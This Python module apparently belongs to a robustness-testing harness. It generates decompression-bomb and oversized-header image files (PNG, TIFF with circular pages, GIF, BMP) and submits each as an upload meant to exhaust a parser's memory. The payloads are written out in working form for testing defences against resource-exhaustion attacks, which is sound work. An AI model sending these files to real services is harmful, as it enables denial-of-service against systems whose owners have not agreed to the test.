"""Pictures that declare or have a huge size."""

import struct
import zlib
from collections.abc import Callable, Iterator

from attacks.attack import PATIENT_MB, Attack, Upload
from attacks.making import png, stripes, tiff

MEGABYTE = 1024 * 1024

_PICTURES: dict[str, tuple[str, Callable[[], bytes]]] = {
    "pixels": ("A picture of 900 million pixels is packed small.", lambda: png(30_000, 30_000)),
    "pixels that are not there": (
        "A picture says that it has four billion pixels.",
        lambda: png(65_535, 65_535, rows=4),
    ),
    "pixels to the limit": ("A picture of 59 million pixels is white.", lambda: png(7_600, 7_700)),
    "flat": ("A picture is 100,000 pixels wide and two high.", lambda: png(100_000, 2)),
    "remarks": (
        "A picture's remark becomes 200 MB.",
        lambda: png(64, 64, chunks=[(b"zTXt", b"Comment\0\0" + zlib.compress(bytes(200 * MEGABYTE), 9))]),
    ),
    "many remarks": ("A picture has 100,000 remarks.", lambda: png(64, 64, chunks=[(b"tEXt", b"a\0b")] * 100_000)),
    "pages of a TIFF": ("A TIFF has 5,000 pages.", lambda: tiff(5000)),
    "pages of a TIFF in a circle": ("A TIFF's pages follow each other round.", lambda: tiff(2, in_circle=True)),
    "wide TIFF": ("A TIFF says that it has four billion pixels.", lambda: tiff(1, width=65_000)),
    "GIF": (
        "A GIF says that it has four billion pixels.",
        lambda: b"GIF89a\xff\xff\xff\xff\x80\0\0" + bytes(6) + b",\0\0\0\0\xff\xff\xff\xff\0\x08\1\0\0;",
    ),
    "BMP": (
        "A bitmap says that it has four billion pixels.",
        lambda: (
            b"BM" + struct.pack("<IIIIiiHHIIiiII", 99, 0, 54, 40, 65_535, 65_535, 1, 24, 0, 0, 0, 0, 0, 0) + bytes(99)
        ),
    ),
    "pattern": ("A picture is stripes that could be lines of writing.", lambda: stripes(3000, 3000)),
}


def attacks() -> Iterator[Attack]:
    for what, (tries, makes) in _PICTURES.items():
        yield Attack(f"picture: {what}", tries, Upload(makes), aim="memory", child_mb=PATIENT_MB)
